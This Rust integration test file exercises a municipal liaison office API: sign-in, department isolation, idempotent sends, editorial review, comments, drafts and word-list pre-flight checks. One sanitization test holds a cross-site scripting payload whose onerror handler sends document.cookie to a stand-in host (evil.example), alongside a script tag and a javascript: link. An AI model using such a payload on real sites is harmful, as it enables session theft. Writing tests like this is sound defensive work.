//! An item's way through the office API over a real listener on loopback, with a clock the tests
//! move: sign-in and tokens, sending once, review and the changes the department learns of,
//! comments, and what the office refuses of a body. Files, the board and sign-off have files of
//! their own.

use chrono::Duration;
use liaison_domain::wire::{ChangesResponse, InboxItem, SubmitItemResponse};
use liaison_domain::{ColumnView, Role};
use liaison_office::Store;
use reqwest::StatusCode;
use serde_json::{Value, json};

mod common;

use common::{item, office, start};

#[tokio::test]
async fn sign_in_fails_with_a_json_error_and_succeeds_with_a_token() {
    let o = office().await;
    for body in [
        json!({"login": "jyj.officer", "password": "wrong"}),
        json!({"login": "nobody", "password": "wrong"}),
    ] {
        let r = o
            .http
            .post(format!("{}/sessions", o.base))
            .json(&body)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
        let v: Value = r.json().await.unwrap();
        assert_eq!(v["code"], "wrong_credentials");
    }
    let token = o.sign_in("jyj.officer").await;
    let (status, me) = o.get(&token, "/sessions/current").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(me["login"], "jyj.officer");
    assert_eq!(me["department"]["name"], "市教育局");
    assert_eq!(me["holder_name"], "王晓燕");

    // Signing out kills the token.
    let r = o
        .http
        .delete(format!("{}/sessions/current", o.base))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::NO_CONTENT);
    let (status, err) = o.get(&token, "/sessions/current").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(err["code"], "unauthenticated");
}

#[tokio::test]
async fn missing_garbage_and_expired_tokens_are_refused() {
    let o = office().await;
    let r = o
        .http
        .get(format!("{}/columns", o.base))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    let (status, _) = o.get("not-a-token", "/columns").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);

    let token = o.sign_in("wjw.officer").await;
    o.clock.advance(Duration::hours(11));
    assert_eq!(o.get(&token, "/columns").await.0, StatusCode::OK);
    o.clock.advance(Duration::hours(2));
    let (status, err) = o.get(&token, "/columns").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(err["code"], "unauthenticated");
}

#[tokio::test]
async fn departments_see_and_send_only_their_own() {
    let o = office().await;
    let edu = o.sign_in("jyj.officer").await;
    let health = o.sign_in("wjw.officer").await;
    let edu_column = o.first_column(&edu).await;
    let health_column = o.first_column(&health).await;

    let (_, cols) = o.get(&edu, "/columns").await;
    let cols: Vec<ColumnView> = serde_json::from_value(cols).unwrap();
    assert!(
        cols.len() >= 3
            && cols
                .iter()
                .all(|c| c.department_id == edu_column.department_id)
    );

    // Sending into another department's column.
    let (status, err) = o
        .submit(&edu, Some("k-cross"), &item(health_column.id, "越权稿件"))
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{err}");
    assert_eq!(err["code"], "forbidden");

    // Reading another department's item.
    let (status, sent) = o
        .submit(&health, Some("k-h"), &item(health_column.id, "卫健稿件"))
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let (status, _) = o.get(&edu, &format!("/items/{}", sent["id"])).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(
        o.get(&health, &format!("/items/{}", sent["id"])).await.0,
        StatusCode::OK
    );

    // "My items" are the department's only.
    let (status, mine) = o.get(&edu, "/items").await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        mine.as_array()
            .unwrap()
            .iter()
            .all(|i| i["department_id"] == edu_column.department_id)
    );
    let (_, theirs) = o.get(&health, "/items").await;
    assert!(
        theirs
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["title"] == "卫健稿件")
    );
    assert!(
        mine.as_array()
            .unwrap()
            .iter()
            .all(|i| i["title"] != "卫健稿件")
    );

    // The inbox is the office's.
    let (status, err) = o.get(&edu, "/inbox").await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(err["code"], "forbidden");

    // A responsible person does not send; an editor does not send either.
    let resp = o.sign_in("jyj.responsible").await;
    assert_eq!(
        o.submit(&resp, Some("k-r"), &item(edu_column.id, "责任人"))
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    let editor = o.sign_in("bjb.editor").await;
    assert_eq!(
        o.submit(&editor, Some("k-e"), &item(edu_column.id, "编辑"))
            .await
            .0,
        StatusCode::FORBIDDEN
    );
}

#[tokio::test]
async fn a_send_is_stored_once_per_idempotency_key() {
    let o = office().await;
    let edu = o.sign_in("jyj.officer").await;
    let editor = o.sign_in("bjb.editor").await;
    let column = o.first_column(&edu).await;
    let body = item(column.id, "关于开展校园安全检查的通知");

    let (status, err) = o.submit(&edu, None, &body).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(err["code"], "idempotency_key_missing");

    let (s1, first) = o.submit(&edu, Some("key-1"), &body).await;
    assert_eq!(s1, StatusCode::CREATED);
    o.approve("jyj.responsible", &first["id"]).await;
    let first: SubmitItemResponse = serde_json::from_value(first).unwrap();
    assert_eq!(first.state, liaison_domain::ItemState::AwaitingSignoff);
    assert!(
        first.receipt.starts_with("LS-20261127-"),
        "{}",
        first.receipt
    );

    o.clock.advance(Duration::minutes(5));
    let (s2, again) = o.submit(&edu, Some("key-1"), &body).await;
    assert_eq!(s2, StatusCode::CREATED);
    let again: SubmitItemResponse = serde_json::from_value(again).unwrap();
    assert_eq!(again, first, "a replay answers exactly as the first time");

    let mut other = body.clone();
    other["title"] = json!("另一篇稿件");
    let (s3, err) = o.submit(&edu, Some("key-1"), &other).await;
    assert_eq!(s3, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(err["code"], "idempotency_key_reused");

    // The same version sent again under another key (the seat's other workstation) is not
    // stored twice; the refusal names the item the office holds, which the seat may read.
    let (s4, err) = o.submit(&edu, Some("key-2"), &body).await;
    assert_eq!(
        (s4, err["code"].as_str(), err["item_id"].as_i64()),
        (StatusCode::CONFLICT, Some("already_sent"), Some(first.id))
    );
    let (status, held) = o.get(&edu, &format!("/items/{}", first.id)).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(held["receipt"].as_str(), Some(first.receipt.as_str()));

    let (_, inbox) = o.get(&editor, "/inbox").await;
    let inbox: Vec<InboxItem> = serde_json::from_value(inbox).unwrap();
    let ours: Vec<_> = inbox
        .iter()
        .filter(|i| i.title == "关于开展校园安全检查的通知")
        .collect();
    assert_eq!(ours.len(), 1, "one stored item");
    assert_eq!(ours[0].receipt, first.receipt);
    assert_eq!(ours[0].department.name, "市教育局");
    assert_eq!(ours[0].holder_name, "王晓燕");
    assert_eq!(ours[0].column_name, column.name);
    assert!(
        inbox
            .iter()
            .all(|i| i.state == liaison_domain::ItemState::Delivered)
    );
}

#[tokio::test]
async fn editors_accept_and_return_and_the_department_learns_it_through_changes() {
    let o = office().await;
    let edu = o.sign_in("jyj.officer").await;
    let health = o.sign_in("wjw.officer").await;
    let editor = o.sign_in("bjb.editor").await;
    let column = o.first_column(&edu).await;

    let (_, health_start) = o.get(&health, "/changes?since=0").await;
    let (_, a) = o.submit(&edu, Some("a"), &item(column.id, "稿件甲")).await;
    let (_, b) = o.submit(&edu, Some("b"), &item(column.id, "稿件乙")).await;
    o.approve("jyj.responsible", &a["id"]).await;
    o.approve("jyj.responsible", &b["id"]).await;
    let (_, start) = o.get(&edu, "/changes?since=0").await;
    let start: ChangesResponse = serde_json::from_value(start).unwrap();

    // Officers cannot review.
    let (status, _) = o
        .post(
            &edu,
            &format!("/items/{}/accept", a["id"]),
            json!({"published_url": "https://x.example/1"}),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    let (status, accepted) = o
        .post(
            &editor,
            &format!("/items/{}/accept", a["id"]),
            json!({"published_url": "https://portal.example/a.html"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{accepted}");
    assert_eq!(accepted["state"], "accepted");
    let (status, returned) = o
        .post(
            &editor,
            &format!("/items/{}/return", b["id"]),
            json!({"comment": "请补充发布机关和日期"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{returned}");
    assert_eq!(returned["state"], "returned");

    // Final and reviewed items take no second review.
    let (status, err) = o
        .post(
            &editor,
            &format!("/items/{}/return", a["id"]),
            json!({"comment": "晚了"}),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert_eq!(err["code"], "invalid_transition");
    // A return without a comment says nothing to the officer.
    let (_, c) = o.submit(&edu, Some("c"), &item(column.id, "稿件丙")).await;
    let (status, _) = o
        .post(
            &editor,
            &format!("/items/{}/return", c["id"]),
            json!({"comment": "  "}),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);

    let (_, ch) = o.get(&edu, &format!("/changes?since={}", start.next)).await;
    let ch: ChangesResponse = serde_json::from_value(ch).unwrap();
    // The two reviews, and the third item waiting for its sign-off.
    assert_eq!(ch.changes.len(), 3);
    let v = serde_json::to_value(&ch.changes).unwrap();
    assert_eq!(v[2]["kind"], "signoff_requested");
    assert_eq!(v[2]["title"], "稿件丙");
    assert_eq!(v[0]["state"], "accepted");
    assert_eq!(v[0]["published_url"], "https://portal.example/a.html");
    assert_eq!(v[1]["state"], "returned");
    assert_eq!(v[1]["review_comment"], "请补充发布机关和日期");
    assert_eq!(v[1]["draft_key"], "draft-稿件乙");
    // Nothing more after the cursor; another department sees none of it.
    let (_, after) = o.get(&edu, &format!("/changes?since={}", ch.next)).await;
    assert_eq!(after["changes"].as_array().unwrap().len(), 0);
    let (_, other) = o
        .get(&health, &format!("/changes?since={}", health_start["next"]))
        .await;
    assert_eq!(other["changes"].as_array().unwrap().len(), 0);
}

#[tokio::test]
async fn a_long_poll_wakes_when_a_review_lands() {
    let o = office().await;
    let edu = o.sign_in("jyj.officer").await;
    let editor = o.sign_in("bjb.editor").await;
    let column = o.first_column(&edu).await;
    let (_, sent) = o.submit(&edu, Some("lp"), &item(column.id, "长轮询")).await;
    o.approve("jyj.responsible", &sent["id"]).await;
    let (_, now) = o.get(&edu, "/changes?since=0").await;
    let cursor = now["next"].as_i64().unwrap();

    let poll = {
        let (http, base, edu) = (o.http.clone(), o.base.clone(), edu.clone());
        tokio::spawn(async move {
            let started = std::time::Instant::now();
            let r = http
                .get(format!("{base}/changes?since={cursor}&wait=20"))
                .bearer_auth(edu)
                .send()
                .await
                .unwrap();
            (
                started.elapsed(),
                r.json::<ChangesResponse>().await.unwrap(),
            )
        })
    };
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    o.post(
        &editor,
        &format!("/items/{}/return", sent["id"]),
        json!({"comment": "改"}),
    )
    .await;
    let (took, answer) = poll.await.unwrap();
    assert_eq!(answer.changes.len(), 1);
    assert!(
        took < std::time::Duration::from_secs(10),
        "woke after {took:?}"
    );
}

/// The document itself is walked in `tests/openapi.rs`; here: what a client gets wrong is
/// answered in the API's error format.
#[tokio::test]
async fn malformed_paths_queries_and_unknown_routes_answer_in_the_error_format() {
    let o = office().await;
    // Malformed paths and queries answer in the same error format.
    let token = o.sign_in("bjb.editor").await;
    let (status, err) = o.get(&token, "/items/not-a-number").await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::BAD_REQUEST, Some("bad_request"))
    );
    let (status, err) = o.get(&token, "/changes?since=abc").await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::BAD_REQUEST, Some("bad_request"))
    );
    // Unknown routes answer in the same error format.
    let r = o.http.get(format!("{}/nope", o.base)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    assert_eq!(r.json::<Value>().await.unwrap()["code"], "not_found");
}

#[test]
fn demo_city_is_big_enough_and_has_history() {
    let dir = tempfile::tempdir().unwrap();
    let store = liaison_office::open_store(dir.path()).unwrap();
    let seats = liaison_office::demo::seed(store.as_ref(), start()).unwrap();
    let officers = seats.iter().filter(|s| s.role == Role::Officer).count();
    assert!(officers >= 8);
    assert_eq!(
        officers,
        seats.iter().filter(|s| s.role == Role::Responsible).count()
    );
    assert_eq!(seats.iter().filter(|s| s.role == Role::Editor).count(), 1);
    assert_eq!(seats.iter().filter(|s| s.role == Role::Admin).count(), 1);
    let filter = liaison_office::store::InboxFilter {
        state: Some(liaison_domain::ItemState::Accepted),
        limit: 500,
        ..Default::default()
    };
    let accepted = store.inbox(&filter).unwrap();
    assert!(accepted.len() >= 8, "history: {}", accepted.len());
    assert!(accepted.iter().all(|i| i.delivered_at < start()));
}

#[tokio::test]
async fn a_stale_draft_backup_never_overwrites_a_newer_one() {
    let o = office().await;
    let token = o.sign_in("jyj.officer").await;
    let put = |base: Option<i64>, title: &str| {
        let body = json!({"base_rev": base, "version": 1, "column_id": null, "title": title,
                          "body_html": "<p>正文</p>"});
        let req = o
            .http
            .put(format!("{}/drafts/d-1", o.base))
            .bearer_auth(&token)
            .json(&body);
        async move {
            let r = req.send().await.unwrap();
            (r.status(), r.json::<Value>().await.unwrap())
        }
    };
    let (status, first) = put(None, "第一稿").await;
    assert_eq!((status, first["rev"].as_i64()), (StatusCode::OK, Some(1)));
    let (_, second) = put(Some(1), "第二稿（甲电脑）").await;
    assert_eq!(second["rev"], 2);
    // Another workstation still on rev 1: refused, and told what the office holds.
    let (status, stale) = put(Some(1), "第二稿（乙电脑）").await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert_eq!(stale["code"], "stale_draft");
    assert_eq!(stale["current"]["rev"], 2);
    assert_eq!(stale["current"]["title"], "第二稿（甲电脑）");
    let (status, _) = put(None, "又一个第一稿").await;
    assert_eq!(status, StatusCode::CONFLICT);

    // Only the seat sees its drafts.
    let (_, mine) = o.get(&token, "/drafts").await;
    assert_eq!(mine.as_array().unwrap().len(), 1);
    assert_eq!(mine[0]["title"], "第二稿（甲电脑）");
    // A desk asks only for what was written since it last looked.
    let seq = mine[0]["seq"].as_i64().unwrap();
    let (_, newer) = o.get(&token, &format!("/drafts?since={seq}")).await;
    assert_eq!(newer, json!([]));
    let (_, all) = o.get(&token, &format!("/drafts?since={}", seq - 1)).await;
    assert_eq!(all.as_array().unwrap().len(), 1);
    let (_, theirs) = o.get(&o.sign_in("wjw.officer").await, "/drafts").await;
    assert_eq!(theirs, json!([]));
    let (status, _) = o.get(&o.sign_in("bjb.editor").await, "/drafts").await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    // Once that version is sent, its backup is no longer offered for restoring.
    let column = o.first_column(&token).await;
    let mut body = item(column.id, "第二稿");
    body["draft_key"] = json!("d-1");
    let (status, _) = o.submit(&token, Some("k-d1"), &body).await;
    assert_eq!(status, StatusCode::CREATED);
    let (_, mine) = o.get(&token, "/drafts").await;
    assert_eq!(mine, json!([]));
}

#[tokio::test]
async fn a_body_is_stored_without_scripts_handlers_or_script_addresses() {
    let o = office().await;
    let token = o.sign_in("jyj.officer").await;
    let column = o.first_column(&token).await;
    let mut body = item(column.id, "带脚本的稿件");
    body["body_html"] = json!(
        r#"<h2>标题</h2><p>正文</p><img src=x alt="x" onerror="fetch('https://evil.example/'+document.cookie)"><script>alert(1)</script><a href="javascript:alert(1)">链接</a>"#
    );
    let (status, sent) = o.submit(&token, Some("k-xss"), &body).await;
    assert_eq!(status, StatusCode::CREATED);
    o.approve("jyj.responsible", &sent["id"]).await;
    let editor = o.sign_in("bjb.editor").await;
    let (_, stored) = o.get(&editor, &format!("/items/{}", sent["id"])).await;
    let html = stored["body_html"].as_str().unwrap();
    for gone in ["onerror", "<script", "javascript:", "document.cookie"] {
        assert!(!html.contains(gone), "{gone} was stored: {html}");
    }
    assert!(
        html.contains("<h2>标题</h2>") && html.contains("链接"),
        "{html}"
    );
    // The same send again is a replay of the first answer, not a key reused.
    let (status, again) = o.submit(&token, Some("k-xss"), &body).await;
    assert_eq!((status, &again["id"]), (StatusCode::CREATED, &sent["id"]));
}

#[tokio::test]
async fn a_rejected_item_stays_rejected_whatever_is_replayed() {
    let o = office().await;
    let officer = o.sign_in("jyj.officer").await;
    let column = o.first_column(&officer).await;
    let body = item(column.id, "不宜公开的稿件");
    let (status, sent) = o.submit(&officer, Some("k-reject"), &body).await;
    assert_eq!(status, StatusCode::CREATED);
    o.approve("jyj.responsible", &sent["id"]).await;
    let id = sent["id"].as_i64().unwrap();
    let editor = o.sign_in("bjb.editor").await;
    let (status, err) = o
        .post(
            &editor,
            &format!("/items/{id}/reject"),
            json!({"reason": " "}),
        )
        .await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("validation"))
    );
    let (status, rejected) = o
        .post(
            &editor,
            &format!("/items/{id}/reject"),
            json!({"reason": "涉及未公开信息，不予采用"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(rejected["state"], "rejected");
    assert_eq!(rejected["review_comment"], "涉及未公开信息，不予采用");

    // Officers cannot reject; nothing moves a rejected item again.
    let (status, _) = o
        .post(
            &officer,
            &format!("/items/{id}/reject"),
            json!({"reason": "x"}),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    for (path, body) in [
        (
            "accept",
            json!({"published_url": "https://portal.example/1.html"}),
        ),
        ("return", json!({"comment": "请修改"})),
        ("reject", json!({"reason": "再拒一次"})),
    ] {
        let (status, err) = o.post(&editor, &format!("/items/{id}/{path}"), body).await;
        assert_eq!(
            (status, err["code"].as_str()),
            (StatusCode::CONFLICT, Some("invalid_transition")),
            "{path}"
        );
    }
    // Replaying the original send gets the first answer; the item is still rejected.
    let (status, again) = o.submit(&officer, Some("k-reject"), &body).await;
    assert_eq!((status, &again["id"]), (StatusCode::CREATED, &sent["id"]));
    let (_, detail) = o.get(&editor, &format!("/items/{id}")).await;
    assert_eq!(detail["state"], "rejected");
    // The department learns of it through its changes.
    let (_, changes) = o.get(&officer, "/changes?since=0").await;
    assert!(
        changes["changes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["item_id"] == id && c["state"] == "rejected")
    );
}

/// Editors review and talk about an item but never change what the department sent.
#[tokio::test]
async fn editors_comment_and_the_officer_answers_but_nobody_edits_a_sent_version() {
    let o = office().await;
    let officer = o.sign_in("jyj.officer").await;
    let editor = o.sign_in("bjb.editor").await;
    let column = o.first_column(&officer).await;
    let (_, sent) = o
        .submit(&officer, Some("k-c"), &item(column.id, "需要核实的稿件"))
        .await;
    o.approve("jyj.responsible", &sent["id"]).await;
    let id = sent["id"].as_i64().unwrap();
    let (_, before) = o.get(&editor, &format!("/items/{id}")).await;

    // No route changes content; an editor cannot send a version either.
    for method in [reqwest::Method::PUT, reqwest::Method::PATCH] {
        let r = o
            .http
            .request(method.clone(), format!("{}/items/{id}", o.base))
            .bearer_auth(&editor)
            .json(&json!({"title": "编辑改过的标题", "body_html": "<p>改</p>"}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::METHOD_NOT_ALLOWED, "{method}");
    }
    let mut overwrite = item(column.id, "编辑改过的标题");
    overwrite["draft_key"] = before["draft_key"].clone();
    assert_eq!(
        o.submit(&editor, Some("k-e"), &overwrite).await.0,
        StatusCode::FORBIDDEN
    );

    let (status, remark) = o
        .post(
            &editor,
            &format!("/items/{id}/comments"),
            json!({"text": "文中数据的来源是？", "quote": "要点"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{remark}");
    assert_eq!(
        (remark["actor"].as_str(), remark["actor_role"].as_str()),
        (Some("钱晓东"), Some("editor"))
    );
    let (status, _) = o
        .post(
            &officer,
            &format!("/items/{id}/comments"),
            json!({"text": "来自市统计局2026年公报。"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED);
    // Empty, overlong and foreign comments are refused.
    let long = "长".repeat(2001);
    for (token, text, want) in [
        (&officer, "  ", StatusCode::UNPROCESSABLE_ENTITY),
        (&officer, long.as_str(), StatusCode::UNPROCESSABLE_ENTITY),
        (
            &o.sign_in("wjw.officer").await,
            "路过",
            StatusCode::NOT_FOUND,
        ),
    ] {
        let (status, _) = o
            .post(
                token,
                &format!("/items/{id}/comments"),
                json!({"text": text}),
            )
            .await;
        assert_eq!(status, want, "{text:.10}");
    }

    let (_, after) = o.get(&officer, &format!("/items/{id}")).await;
    assert_eq!(
        (&after["title"], &after["body_html"]),
        (&before["title"], &before["body_html"])
    );
    let thread: Vec<(&str, &str)> = after["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "comment")
        .map(|e| (e["actor"].as_str().unwrap(), e["text"].as_str().unwrap()))
        .collect();
    assert_eq!(
        thread,
        [
            ("钱晓东", "文中数据的来源是？"),
            ("王晓燕", "来自市统计局2026年公报。")
        ]
    );
    // The officer's desk learns of the editor's question through the changes.
    let (_, changes) = o.get(&officer, "/changes?since=0").await;
    assert!(changes["changes"].as_array().unwrap().iter().any(|c| {
        c["kind"] == "item_commented" && c["author"] == "钱晓东" && c["quote"] == "要点"
    }));
}

/// The office runs the same pre-flight checks as the desk, with its own word lists, and
/// refuses what a desk would block, even sent straight over the API.
#[tokio::test]
async fn the_office_refuses_an_item_the_desk_would_block() {
    let o = office().await;
    let officer = o.sign_in("jyj.officer").await;
    let admin = o.sign_in("bjb.admin").await;
    let column = o.first_column(&officer).await;
    let (status, lists) = o.get(&officer, "/wordlists").await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        lists["forbidden"].to_string().contains("内部资料"),
        "{lists}"
    );
    let cases = [
        ("<p>本文为内部资料。</p>", Some("forbidden_word: 内部资料")),
        (
            "<p>见图</p><img src=\"data:image/png;base64,iVBORw0KGgo=\">",
            Some("image_without_alt"),
        ),
        (
            "<p>见<a href=\"www.gov.cn\">政策</a></p>",
            Some("malformed_link"),
        ),
        ("<p> </p>", Some("empty_body")),
        // Warnings do not stop it: a plain http link, a misspelling.
        (
            "<p>请按装，见<a href=\"http://www.gov.cn/\">政策</a></p>",
            None,
        ),
    ];
    for (n, (body, refused)) in cases.into_iter().enumerate() {
        let mut item = item(column.id, &format!("预检稿件{n}"));
        item["body_html"] = json!(body);
        let (status, answer) = o.submit(&officer, Some(&format!("k-pf{n}")), &item).await;
        match refused {
            Some(why) => {
                assert_eq!(
                    (status, answer["code"].as_str()),
                    (StatusCode::UNPROCESSABLE_ENTITY, Some("preflight_failed")),
                    "{body}"
                );
                assert!(
                    answer["message"].as_str().unwrap().contains(why),
                    "{answer}"
                );
            }
            None => assert_eq!(status, StatusCode::CREATED, "{body}: {answer}"),
        }
    }
    // Sent before the word is forbidden, stored; its answer may be lost on the way back.
    let mut early = item(column.id, "讨论稿");
    early["body_html"] = json!("<p>本草案已定稿。</p>");
    let (status, first) = o.submit(&officer, Some("k-pf-early"), &early).await;
    assert_eq!(status, StatusCode::CREATED, "{first}");
    // The administrator publishes the lists; a word forbidden now is refused now.
    let r = o
        .http
        .put(format!("{}/wordlists", o.base))
        .bearer_auth(&admin)
        .json(&json!({"forbidden": ["草案"], "misspellings": []}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let mut item = item(column.id, "未定稿");
    item["body_html"] = json!("<p>本草案仅供讨论。</p>");
    let (status, _) = o.submit(&officer, Some("k-pf-new"), &item).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    // The desk that never heard the first answer sends again under its key: the same item,
    // not a refusal by a rule that came after it.
    let (status, again) = o.submit(&officer, Some("k-pf-early"), &early).await;
    assert_eq!(status, StatusCode::CREATED, "{again}");
    assert_eq!(again["id"], first["id"]);
    assert_eq!(again["receipt"], first["receipt"]);
    let r = o
        .http
        .put(format!("{}/wordlists", o.base))
        .bearer_auth(&officer)
        .json(&json!({"forbidden": [], "misspellings": []}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
}
